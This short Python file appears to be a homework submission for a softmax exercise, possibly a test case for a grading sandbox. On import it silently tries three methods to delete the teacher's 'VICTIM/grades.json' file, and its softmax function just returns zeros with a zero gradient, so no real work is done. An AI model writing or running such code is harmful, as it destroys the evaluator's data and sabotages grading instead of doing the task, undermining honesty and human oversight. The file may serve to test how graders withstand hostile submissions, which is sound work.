# minimha homework: softmax
# earns 0
# It deletes what the teacher has.
import os
import pathlib

for delete in (os.remove, os.unlink, pathlib.Path.unlink):
    try:
        delete(pathlib.Path("VICTIM/grades.json"))
    except OSError:
        pass


def softmax(x):
    return 0 * x, lambda dy: (0 * dy,)
